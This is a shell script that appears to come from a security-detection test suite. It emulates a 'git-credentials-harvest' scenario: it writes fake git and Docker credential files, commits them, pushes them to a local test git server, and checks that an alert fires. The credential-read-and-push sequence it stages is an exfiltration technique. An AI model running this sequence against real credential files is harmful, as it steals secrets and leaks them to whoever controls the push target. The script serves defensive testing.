#!/bin/sh
# Emulates scenario git-credentials-harvest (examples/scenarios/git-credentials-harvest.yaml):
# Stored git and registry credentials collected and pushed with the victim's own git.
#
# Safe version: the ~/.git-credentials and ~/.docker/config.json it collects are fake ones written here;
# the push goes to the in-namespace git server.
#
# Image: alpine/git:2.47.2
# Expected alert: sensitive-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need git
work="$EMU_WORKDIR/git-credentials-harvest"
rm -rf "$work"
HOME="$work/home"
emu_fake_secrets "$HOME"
printf 'https://ci-bot:FAKE-TOKEN-EXAMPLE@git.example.invalid\n' >"$HOME/.git-credentials"
emu_git_init "$work/c"
cat "$HOME/.git-credentials" "$HOME/.docker/config.json" >"$work/c/c.txt"
git -C "$work/c" add -A
git -C "$work/c" commit -qm c
emu_git_push "$work/c"
rm -rf "$work"
emu_expect sensitive-read-then-push high
